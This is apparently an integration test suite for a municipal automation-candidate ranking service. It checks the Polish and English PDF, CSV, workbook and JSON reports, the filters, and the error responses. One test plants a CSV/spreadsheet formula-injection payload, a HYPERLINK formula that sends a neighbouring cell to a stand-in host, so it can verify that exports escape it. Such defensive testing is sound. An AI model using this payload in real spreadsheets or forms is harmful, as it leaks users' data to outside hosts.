import ExcelJS from 'exceljs';
import { Role } from '../../../src/auth/domain/role.js';
import { reportWords } from '../../../src/reports/report-texts.js';
import { readPdf, sha256, spaced } from '../../helpers/pdf.js';
import { demoTokens, seedDemo, startTestApp, type TestApp } from '../../helpers/test-app.js';

interface ApiCandidate {
  rank: number;
  processId: string;
  processName: string;
  quadrant: string;
  automationPotential: number;
  hoursSaved: { p50: number };
  npv: { p10: string; p50: string; p90: string };
  probabilityPositiveNpv: number;
  candidate: boolean;
  display: { npv: { p10: number; p50: number; p90: number } };
}

interface ApiPortfolio {
  candidates: number;
  display: { npv: { p10: number; p50: number; p90: number } };
  npv: { p10: string; p50: string; p90: string };
  hoursSaved: { p10: number; p50: number; p90: number };
}

const CANDIDATE_FIELDS = 'rank processId processName quadrant automationPotential hoursSaved { p50 } npv { p10 p50 p90 } probabilityPositiveNpv candidate display { npv { p10 p50 p90 } }';

describe('reports: the candidate ranking as a PDF for a council, as tables, and a candidate as JSON', () => {
  let t: TestApp;
  let tokens: Partial<Record<Role, string>> = {};
  let organizationId: string;

  const download = (url: string, token: string | undefined) => t.app.inject({ method: 'GET', url, headers: token ? { authorization: `Bearer ${token}` } : {} });
  const ranking = async (filter: string, first: number) =>
    (
      await t.graphql<{ candidateRanking: { edges: { node: ApiCandidate }[] } }>(
        `{ candidateRanking(organizationId: "${organizationId}", filter: { ${filter} }, first: ${first}) { edges { node { ${CANDIDATE_FIELDS} } } } }`,
        {},
        tokens[Role.MANAGER],
      )
    ).data!.candidateRanking.edges.map((edge) => edge.node);
  const portfolio = async (filter: string, top: number) =>
    (
      await t.graphql<{ portfolioSummary: ApiPortfolio }>(
        `{ portfolioSummary(organizationId: "${organizationId}", filter: { ${filter} }, top: ${top}) { candidates npv { p10 p50 p90 } hoursSaved { p10 p50 p90 } display { npv { p10 p50 p90 } } } }`,
        {},
        tokens[Role.MANAGER],
      )
    ).data!.portfolioSummary;

  beforeAll(async () => {
    t = await startTestApp({}, { embedded: true });
    await seedDemo(t);
    tokens = await demoTokens(t, [Role.AUDITOR, Role.MANAGER, Role.PROCESS_OWNER]);
    organizationId = (await t.owner.query<{ id: string }>("SELECT id FROM organization WHERE name LIKE '%Zielonogród%'")).rows[0].id;
  });

  afterAll(async () => {
    await t?.close();
  });

  it('lists the top candidates, their portfolio and the scenario with the API figures, in Polish, the same bytes every time', async () => {
    const url = `/reports/ranking.pdf?organizationId=${organizationId}&lang=pl`;
    const first = await download(url, tokens[Role.MANAGER]);
    expect(first.statusCode).toBe(200);
    expect(first.headers['content-type']).toBe('application/pdf');
    expect(sha256((await download(url, tokens[Role.MANAGER])).rawPayload)).toBe(sha256(first.rawPayload));

    const text = (await readPdf(first.rawPayload, 'ranking-pl')).join('\n');
    const words = reportWords('pl');
    expect(text).toContain('Ranking kandydatów do automatyzacji');
    expect(text).toMatch(/Urząd: [^:]*Zielonogród[^:]* Kod TERYT: \d{7}/);
    expect(text).toContain('Wersja metody: readiness-');
    // The demo's invoice process as a council member reads it, written out by hand (its Monte
    // Carlo stream follows its id, which each seeding draws anew: the figures' digits vary).
    expect(text).toMatch(/\d+ Incoming invoice registration and posting Wydział Finansowo-Księgowy szybki efekt 54 73 1 6\d\d 1\d\d \d{3} zł 1\d\d \d{3} zł … 2\d\d \d{3} zł 100% próba spraw/);
    const candidates = await ranking('', 20);
    expect(candidates.length).toBeGreaterThan(5);
    for (const candidate of candidates) {
      expect(text).toContain(candidate.processName.slice(0, 25));
      // The PDF shows figures rounded to their Monte Carlo standard error (display); no candidate, no NPV.
      expect(text).toContain(candidate.candidate ? spaced(words.moneyRounded(candidate.display.npv.p50)) : 'nie jest kandydatem');
    }
    const summed = await portfolio('', 20);
    expect(text).toContain(`Portfel: ${summed.candidates} najlepszych kandydatów razem`);
    const shown = summed.display.npv;
    expect(text).toContain(spaced(`${words.moneyRounded(shown.p10)} – ${words.moneyRounded(shown.p50)} – ${words.moneyRounded(shown.p90)}`));
    expect(text).toContain('Scenariusz kosztów w mocy');
    expect(text).toContain('Wykres ćwiartek');
    expect(text).toMatch(/[ąćęłńóśźż]/);
  });

  it('follows the filters, speaks English, and serves every member of the office', async () => {
    const quickWins = await ranking('quadrant: QUICK_WIN', 5);
    const response = await download(`/reports/ranking.pdf?organizationId=${organizationId}&lang=en&quadrant=QUICK_WIN&top=5&category=`, tokens[Role.PROCESS_OWNER]);
    expect(response.statusCode).toBe(200);
    const text = (await readPdf(response.rawPayload, 'ranking-quick-wins-en')).join('\n');
    expect(text).toContain('Automation candidate ranking');
    expect(text).toContain('Quadrant: quick win');
    expect(text).toContain(`Portfolio: the top ${quickWins.length} candidates together`);
    expect(text).toMatch(/1 Incoming invoice registration and posting Wydział Finansowo-Księgowy quick win 54 73 1,6\d\d PLN 1\d\d,\d{3} PLN 1\d\d,\d{3} … PLN 2\d\d,\d{3} 100% case sample/);
    for (const candidate of quickWins) expect(text).toContain(candidate.processName.slice(0, 25));
    const others = (await ranking('', 50)).filter((candidate) => candidate.quadrant !== 'QUICK_WIN');
    for (const candidate of others) expect(text).not.toContain(candidate.processName);
  });

  it('gives the same rows as CSV and as a workbook with numbers as numbers, a name never as a formula', async () => {
    // A name a spreadsheet would run as a formula (a link sending the row's neighbour away).
    const formula = '=HYPERLINK("http://x/?q="&A2,"Szczegóły")';
    // The demo's process owner owns every demo process; the last listed is not the one checked below.
    const renamed = (await ranking('', 20)).at(-1)!.processId;
    const { version } = (await t.graphql<{ process: { version: number } }>('query ($id: ID!) { process(id: $id) { version } }', { id: renamed }, tokens[Role.PROCESS_OWNER])).data!
      .process;
    const rename = await t.graphql(
      'mutation ($id: ID!, $input: UpdateProcessInput!) { updateProcess(id: $id, input: $input) { name } }',
      { id: renamed, input: { version, name: formula } },
      tokens[Role.PROCESS_OWNER],
    );
    expect(rename.errors).toBeUndefined();
    const candidates = await ranking('', 20);
    expect(candidates.find((candidate) => candidate.processId === renamed)?.processName).toBe(formula);
    const csv = await download(`/reports/ranking.csv?organizationId=${organizationId}`, tokens[Role.AUDITOR]);
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const lines = csv.payload.replace(/^\uFEFF/, '').trim().split('\r\n');
    expect(lines[0]).toMatch(/^Miejsce,Proces,Wydział,Ćwiartka,/);
    expect(lines).toHaveLength(candidates.length + 1);
    // Full precision with decimal points, the Polish labels.
    expect(lines.find((line) => line.includes(',Incoming invoice registration and posting,'))).toMatch(
      /^\d+,Incoming invoice registration and posting,Wydział Finansowo-Księgowy,szybki efekt,5\d\.\d+,7\d\.\d+,16\d\d(\.\d)?,1\d{5}(\.\d\d?)?,1\d{5}(\.\d\d?)?,2\d{5}(\.\d\d?)?,1,próba spraw,/,
    );
    // Text, with an apostrophe first (then quoted as any cell with quotes and commas); the figures stay bare numbers.
    expect(lines.find((line) => line.includes('HYPERLINK'))).toMatch(/^\d+,"'=HYPERLINK\(""http:\/\/x\/\?q=""&A2,""Szczegóły""\)",[^,]*,[^,]*,-?\d/);
    const xlsx = await download(`/reports/ranking.xlsx?organizationId=${organizationId}&lang=en`, tokens[Role.MANAGER]);
    expect(xlsx.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    expect(sheet.getCell(1, 1).value).toBe('Rank');
    candidates.forEach((candidate, index) => {
      const row = index + 2;
      expect([1, 2, 5, 7, 8, 9, 10, 11].map((column) => sheet.getCell(row, column).value)).toEqual([
        candidate.rank,
        candidate.processName,
        candidate.automationPotential,
        candidate.hoursSaved.p50,
        Number(candidate.npv.p10),
        Number(candidate.npv.p50),
        Number(candidate.npv.p90),
        candidate.probabilityPositiveNpv,
      ]);
    });
  });

  it("gives a candidate's full stored assessment as JSON, equal to the API's", async () => {
    const [best] = await ranking('', 1);
    const response = await download(`/reports/candidates/${best.processId}.json`, tokens[Role.PROCESS_OWNER]);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/json; charset=utf-8');
    const api = await t.graphql<{ candidateAssessment: { inputs: unknown; result: unknown; candidate: { processName: string; npv: unknown; methodVersion: string } } }>(
      `{ candidateAssessment(processId: "${best.processId}") { inputs result candidate { processName npv { p10 p50 p90 } methodVersion } } }`,
      {},
      tokens[Role.PROCESS_OWNER],
    );
    const file = JSON.parse(response.payload) as { inputs: unknown; result: unknown; candidate: Record<string, unknown> };
    expect(file.inputs).toEqual(api.data!.candidateAssessment.inputs);
    expect(file.result).toEqual(api.data!.candidateAssessment.result);
    expect(file.candidate).toMatchObject(api.data!.candidateAssessment.candidate);
  });

  it('refuses what it cannot answer with a 4xx and a sentence, and writes nothing', async () => {
    const counts = async () =>
      (await t.owner.query<{ n: string }>('SELECT (SELECT count(*) FROM candidate_score) + (SELECT count(*) FROM audit_log) + (SELECT count(*) FROM automation_scenario) AS n')).rows[0].n;
    const otherOffice = await t.createOrganization('Gmina Obca', '9999998');
    const stranger = await t.createUser([{ organizationId: otherOffice, role: Role.MANAGER }]);
    const [best] = await ranking('', 1);
    const before = await counts();
    const office = `organizationId=${organizationId}`;
    const cases: [string, string | undefined, number, string][] = [
      [`/reports/ranking.pdf?${office}`, stranger.token, 404, 'NOT_FOUND'],
      [`/reports/ranking.pdf?organizationId=${otherOffice}`, tokens[Role.MANAGER], 404, 'NOT_FOUND'],
      ['/reports/ranking.pdf', tokens[Role.MANAGER], 400, 'BAD_USER_INPUT'],
      [`/reports/ranking.pdf?${office}&quadrant=BEST`, tokens[Role.MANAGER], 400, 'BAD_USER_INPUT'],
      [`/reports/ranking.pdf?${office}&top=0`, tokens[Role.MANAGER], 400, 'BAD_USER_INPUT'],
      [`/reports/ranking.pdf?${office}&top=many`, tokens[Role.MANAGER], 400, 'BAD_USER_INPUT'],
      [`/reports/ranking.pdf?${office}&department=sales`, tokens[Role.MANAGER], 400, 'BAD_USER_INPUT'],
      [`/reports/ranking.pdf?${office}&lang=de`, tokens[Role.MANAGER], 400, 'BAD_USER_INPUT'],
      [`/reports/ranking.pdf?${office}&quadrnt=QUICK_WIN`, tokens[Role.MANAGER], 400, 'BAD_USER_INPUT'],
      [`/reports/ranking.docx?${office}`, tokens[Role.MANAGER], 400, 'BAD_USER_INPUT'],
      [`/reports/ranking.pdf?${office}`, undefined, 401, 'UNAUTHENTICATED'],
      [`/reports/candidates/${best.processId}.json`, stranger.token, 404, 'NOT_FOUND'],
      ['/reports/candidates/not-an-id.json', tokens[Role.MANAGER], 404, 'NOT_FOUND'],
      [`/reports/candidates/${best.processId}.pdf`, tokens[Role.MANAGER], 400, 'BAD_USER_INPUT'],
      [`/reports/candidates/${best.processId}.json`, undefined, 401, 'UNAUTHENTICATED'],
    ];
    for (const [url, token, status, code] of cases) {
      const response = await download(url, token);
      expect({ url, status: response.statusCode }).toEqual({ url, status });
      const body = JSON.parse(response.payload) as { errors: { message: string; extensions: { code: string } }[] };
      expect({ url, code: body.errors[0].extensions.code }).toEqual({ url, code });
      expect(body.errors[0].message).not.toMatch(/undefined/);
    }
    expect(await counts()).toBe(before);
  });
});
